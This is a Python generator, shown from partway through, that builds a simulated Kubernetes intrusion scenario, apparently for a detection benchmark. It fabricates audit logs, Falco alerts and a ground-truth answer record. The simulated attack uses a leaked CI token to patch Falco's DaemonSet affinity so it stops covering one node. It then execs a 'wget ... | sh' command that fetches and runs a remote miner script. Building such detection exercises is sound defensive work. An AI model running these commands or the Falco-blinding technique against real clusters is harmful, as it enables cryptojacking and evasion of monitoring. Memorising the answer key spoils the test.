    t_patch, t_gone = _blind_falco(w, ci, falco, node, w.at(38.0))
    # Falco's routine alerts: on the node before it goes blind, and on the others throughout
    others = [n for n in w.nodes if n is not node]
    for minute, where in zip(
        (8.0, 48.0, 57.0, 83.0, 104.0), [node, *others, others[0]], strict=True
    ):
        _benign_falco(w, w.at(minute), where)
    t_exec = _mine(w, ci, victim, t_patch + 4 * 60 * NS)
    _human(w, w.at(71), "sre-ana@example.com", "10.0.200.41", "get", "/api/v1/nodes", "nodes", None)
    search = [p for p in w.pods if p.wl.name == "search"]
    _malformed_cri(w, search[-1], w.at(88), "truncated")
    lifecycle_records(w)
    _falco_disabled_posture(w)
    det = [
        {
            "id": "audit.security-collector-impaired",
            "subject": ci["username"],
            "pod": None,
            "time": F.ts_s(t_patch),
        },
        {
            "id": "audit.pod-exec-unusual-subject",
            "subject": ci["username"],
            "pod": victim.name,
            "time": F.ts_s(t_exec),
        },
    ]
    truth = _truth(
        w,
        ns="ci",
        kind="Deployment",
        wl="buildkitd",
        pod=victim.name,
        container="buildkitd",
        node=node["name"],
        level="pod",
        fault_start=t_patch,
        category="intrusion",
        description="With the CI deployer's leaked service-account token, an attacker gives the Falco DaemonSet a node affinity that leaves one node, then execs into the privileged BuildKit pod on that node and starts a miner: no Falco alert names it, the coverage gap and the CPU do.",
        detections=det,
    )
    truth["attacker_ips"] = [_ATTACKER_IP]
    truth["stolen_identity"] = ci["username"]
    truth["coverage_gap"] = {
        "node": node["name"],
        "collector": "falco",
        "start": F.ts_s(t_gone),
        "end": F.ts_s(w.t1),
    }
    return w, truth


def _falco_disabled_apps(w: World, scale: float) -> None:
    """web and api services, and the CI's BuildKit daemon (privileged, as rootful BuildKit is)."""
    for name, ns, replicas, image, port, style, rps, cpu, mem in (
        (
            "storefront",
            "web",
            3,
            "registry.example.com/web/storefront:2.40.2",
            3000,
            "json",
            18.0,
            0.1,
            220,
        ),
        (
            "search",
            "web",
            2,
            "registry.example.com/web/search:5.2.0",
            8080,
            "logfmt",
            9.0,
            0.15,
            300,
        ),
        ("orders", "api", 2, "registry.example.com/api/orders:1.9.3", 8080, "java", 6.0, 0.2, 380),
    ):
        w.add_workload(
            Workload(
                kind="Deployment",
                name=name,
                ns=ns,
                replicas=max(1, round(replicas * scale)),
                containers=[CSpec(name, image, port)],
                created=w.t0 - int(w.rng.integers(20, 200)) * 86400 * NS,
                sa=name,
                style=style,
                log_rate=0.022,
                rps=rps,
                cpu=cpu,
                mem=mem * MI,
                labels={
                    "app": name,
                    "app.kubernetes.io/name": name,
                    "app.kubernetes.io/part-of": ns,
                },
            )
        )
    w.add_workload(
        Workload(
            kind="Deployment",
            name="buildkitd",
            ns="ci",
            replicas=1,
            containers=[
                CSpec(
                    "buildkitd",
                    "docker.io/moby/buildkit:v0.13.2",
                    1234,
                    cpu_req="500m",
                    mem_req="1Gi",
                    privileged=True,
                    readiness=None,
                )
            ],
            created=w.t0 - 41 * 86400 * NS,
            sa="buildkitd",
            style="logfmt",
            log_rate=0.004,
            cpu=0.08,
            mem=600 * MI,
            service=True,
            labels={"app": "buildkitd", "app.kubernetes.io/name": "buildkitd"},
        )
    )


def _ci_deploys(w: World, ci: dict) -> None:
    """The deployer's own use from the CI network: ``kubectl rollout status`` on web's
    Deployments after each pipeline run."""
    for minute in (12.0, 47.0, 96.0):
        for name in ("storefront", "search"):
            w.audit_event(
                w.at(minute),
                user=ci,
                verb="get",
                uri=f"/apis/apps/v1/namespaces/web/deployments/{name}",
                resource="deployments",
                ns="web",
                name=name,
                group="apps",
                ips=["10.0.200.15"],
                ua=_CI_UA,
                reason=_DEPLOYER_REASON,
            )


def _benign_falco(w: World, t: int, node: dict) -> None:
    """A routine Falco alert on ``node``: an app's client library talking to the API server,
    as the default rules flag it."""
    pods = [p for p in w.pods if p.node is node and p.wl.ns in ("web", "api")]
    pod = pods[int(w.rng.integers(0, len(pods)))]
    c_id = pod.cstates[0].attempts[0].cid[:12]
    container = pod.cstates[0].spec.name
    repo, tag = pod.images[container].rsplit(":", 1)
    port = int(w.rng.integers(32768, 60999))
    conn = f"{pod.ip}:{port}->172.20.0.1:443"
    w.falco_alert(
        t,
        "Contact K8S API Server From Container",
        "Notice",
        f"Unexpected connection to K8s API Server from container (connection={conn} lport=443 rport={port} "
        f"fd_type=ipv4 fd_proto=tcp evt_type=connect user=app user_uid=10001 user_loginuid=-1 process={container} "
        f"proc_exepath=/app/{container} parent=containerd-shim command={container} --config /etc/{container}/config.yaml "
        f"terminal=0 container_id={c_id} container_name={container} container_image_repository={repo} "
        f"container_image_tag={tag} k8s_pod_name={pod.name} k8s_ns_name={pod.wl.ns})",
        {
            "container.id": c_id,
            "container.image.repository": repo,
            "container.image.tag": tag,
            "container.name": container,
            "evt.type": "connect",
            "fd.name": conn,
            "fd.rip": "172.20.0.1",
            "fd.rport": 443,
            "k8s.ns.name": pod.wl.ns,
            "k8s.pod.name": pod.name,
            "proc.cmdline": f"{container} --config /etc/{container}/config.yaml",
            "proc.exepath": f"/app/{container}",
            "proc.name": container,
            "proc.pname": "containerd-shim",
            "user.name": "app",
            "user.uid": 10001,
        },
        ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
        node["name"],
    )


def _node_affinity_without(node: dict) -> dict:
    term = {"key": "kubernetes.io/hostname", "operator": "NotIn", "values": [node["name"]]}
    required = {"nodeSelectorTerms": [{"matchExpressions": [term]}]}
    return {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": required}}


def _blind_falco(w: World, ci: dict, falco: Workload, node: dict, t_patch: int) -> tuple[int, int]:
    """The attacker lists nodes and DaemonSets, then gives Falco a node affinity that leaves
    ``node``; the DaemonSet controller deletes the Falco pod there (OnDelete keeps the others).
    Returns when the patch was made and when the Falco pod was gone."""
    attacker = {"ips": [_ATTACKER_IP], "ua": _ATTACKER_UA, "reason": _DEPLOYER_REASON}
    t_look = t_patch - 2 * 60 * NS
    w.audit_event(
        t_look, user=ci, verb="list", uri="/api/v1/nodes?limit=500", resource="nodes", **attacker
    )
    w.audit_event(
        t_look + 9 * NS,
        user=ci,
        verb="list",
        uri="/apis/apps/v1/namespaces/monitoring/daemonsets?limit=500",
        resource="daemonsets",
        ns="monitoring",
        group="apps",
        **attacker,
    )
    affinity = _node_affinity_without(node)
    w.audit_event(
        t_patch,
        user=ci,
        verb="patch",
        uri="/apis/apps/v1/namespaces/monitoring/daemonsets/falco?fieldManager=kubectl-patch",
        resource="daemonsets",
        ns="monitoring",
        name="falco",
        group="apps",
        level="RequestResponse",
        request_object={"spec": {"template": {"spec": {"affinity": affinity}}}},
        **attacker,
    )
    falco.affinity = affinity
    falco.desired = len(w.nodes) - 1
    falco.generation = 2
    w.add_revision(falco, t_patch + NS)
    pod = next(p for p in w.pods if p.wl is falco and p.node is node)
    t_del = t_patch + int(1.4 * NS)
    w.event(
        "DaemonSet",
        "falco",
        "monitoring",
        falco.uid,
        "SuccessfulDelete",
        f"Deleted pod: {pod.name}",
        t_del,
        comp="daemonset-controller",
        api_version="apps/v1",
    )
    w.audit_event(
        t_del,
        user={**w.sa_user("kube-system", "daemon-set-controller", w.uid())},
        verb="delete",
        uri=f"/api/v1/namespaces/monitoring/pods/{pod.name}",
        resource="pods",
        ns="monitoring",
        name=pod.name,
        ips=["10.0.1.5"],
        ua="kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:daemon-set-controller",
        reason='RBAC: allowed by ClusterRoleBinding "system:controller:daemon-set-controller" of ClusterRole "system:controller:daemon-set-controller" to ServiceAccount "daemon-set-controller/kube-system"',
    )
    w.delete_pod(pod, t_del)
    return t_patch, pod.deleted


def _mine(w: World, ci: dict, victim: Pod, t_exec: int) -> int:
    """An exec session into the BuildKit pod that fetches and starts a miner in the background:
    the pod's CPU goes from idle to three cores, its memory up by the miner's dataset; its output goes nowhere the logs see."""
    uri = (
        f"/api/v1/namespaces/ci/pods/{victim.name}/exec?command=%2Fbin%2Fsh&command=-c&command=wget+-qO-+"
        "http%3A%2F%2F198.51.100.77%2Fw.sh+%7C+sh&container=buildkitd&stderr=true&stdout=true"
    )
    aid = w.uid()
    for stage, dt, latency in (("ResponseStarted", 0, 41.0), ("ResponseComplete", 9 * NS, 9000.0)):
        w.audit_event(
            t_exec + dt,
            user=ci,
            verb="create",
            uri=uri,
            resource="pods",
            ns="ci",
            name=victim.name,
            sub="exec",
            code=101,
            ips=[_ATTACKER_IP],
            ua=_ATTACKER_UA,
            stage=stage,
            audit_id=aid,
            latency_ms=latency,
            reason=_DEPLOYER_REASON,
        )
    mining = w.grid * NS >= t_exec + 12 * NS
    victim.cpu = victim.cpu + 3.0 * mining * (1 + w.noise(0.03))
    victim.mem = victim.mem + 2200 * MI * mining  # RandomX's 2 GiB dataset, in fast mode
    return t_exec


def _falco_disabled_posture(w: World) -> None:
    """The deployer's ClusterRole bound cluster-wide, Pod Security labels, web's default deny."""
    deployer = [
        {
            "apiGroups": ["apps"],
            "resources": ["daemonsets", "deployments", "statefulsets"],
            "verbs": ["get", "list", "watch", "create", "patch", "update"],
        },
        {
            "apiGroups": [""],
            "resources": ["pods", "services", "configmaps"],
            "verbs": ["get", "list", "watch", "create", "delete", "patch"],
        },
        {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]},
        {"apiGroups": [""], "resources": ["nodes"], "verbs": ["get", "list"]},
    ]
    ref = {"apiGroup": _RBAC, "kind": "ClusterRole", "name": "ci-deployer"}
    subject = {"kind": "ServiceAccount", "name": "deployer", "namespace": "ci"}
    w.objects["rbac"] = [
        _object(w, f"{_RBAC}/v1", "ClusterRole", "ci-deployer", None, rules=deployer),
        _object(
            w,
            f"{_RBAC}/v1",
            "ClusterRoleBinding",
            "ci-deployer",
            None,
            roleRef=ref,
            subjects=[subject],
        ),
    ]
    deny = {"podSelector": {}, "policyTypes": ["Ingress"]}
    w.objects["networkpolicies"] = [
        _object(w, "networking.k8s.io/v1", "NetworkPolicy", "default-deny", "web", spec=deny)
    ]
    label = "pod-security.kubernetes.io/"
    w.namespace_labels["web"] = {label + "enforce": "baseline", label + "warn": "restricted"}
    w.namespace_labels["api"] = {label + "enforce": "baseline"}
    w.namespace_labels["ci"] = {label + "enforce": "privileged", label + "warn": "baseline"}


SCENARIOS["falco-disabled"] = falco_disabled
